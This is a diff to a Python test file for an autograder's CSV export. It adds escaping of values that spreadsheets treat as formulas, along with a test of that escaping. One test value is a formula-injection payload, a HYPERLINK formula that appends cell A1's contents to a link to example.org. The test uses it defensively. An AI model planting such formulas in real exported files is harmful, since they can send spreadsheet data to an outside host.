@@ -5,9 +5,14 @@ from dataclasses import replace
 from hypothesis import given
 from hypothesis import strategies as st
 
-from autograder.out.export.csv import render
+from autograder.out.export import csv as format_csv
+from autograder.out.grades import of_assignment
 from autograder.results import ExerciseResult, Outcome, SubmissionResult
 from tests.autograder.test_results import ADA, OMAR, TWICE
+
+
+def render(results) -> bytes:
+    return format_csv.render(of_assignment(results))
 
 
 def read(results) -> list[dict]:
@@ -70,4 +75,14 @@ words = st.text(st.characters(codec="utf-8", exclude_characters="\0"), min_size=
 def test_any_text_survives(student, problem, score):
     exercise = ExerciseResult("check_double", score, 1000.0, Outcome.PARTIAL, problem)
     (row,) = read([SubmissionResult("07_demo", student, (exercise,), problem=problem)])
-    assert (row["student"], row["problem"], float(row["score"])) == (student, problem, score)
+    assert (row["student"], row["problem"], float(row["score"])) == (shown(student), shown(problem), score)
+
+
+def shown(text: str) -> str:
+    return f"'{text}" if text[0] in "=+-@\t\r" else text
+
+
+def test_what_a_spreadsheet_takes_for_a_formula_is_made_harmless():
+    message = '=HYPERLINK("https://example.org?"&A1,"click")'
+    (row,) = read([replace(ADA, student="@ada", problem=message)])
+    assert (row["student"], row["problem"]) == ("'@ada", f"'{message}")
